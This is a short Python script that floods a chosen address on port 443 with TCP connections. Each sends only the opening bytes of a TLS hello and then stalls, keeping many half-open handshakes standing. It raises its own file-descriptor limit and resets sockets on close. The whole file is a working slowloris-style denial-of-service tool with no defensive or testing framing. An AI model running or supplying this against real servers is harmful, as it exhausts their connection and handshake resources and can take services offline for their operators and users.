"""Opens connections that send the beginning of a TLS hello and no more: half-hellos.py ADDRESS COUNT OPEN"""
import collections
import resource
import select
import socket
import struct
import sys

address, count, most = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
half = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(100)
most_files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
most = min(most, most_files - 200)
standing = collections.deque()
said = 0


def end(connection):
    global said
    try:
        writable = select.poll()
        writable.register(connection, select.POLLOUT)
        writable.poll(1000)
        said += connection.send(half) > 0
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    standing.append(connection)


opening = collections.deque()
for _ in range(count):
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex((address, 443))
    opening.append(connection)
    if len(opening) > 100:
        end(opening.popleft())
    if len(standing) > most:
        standing.popleft().close()
for connection in opening:
    end(connection)
print(said)
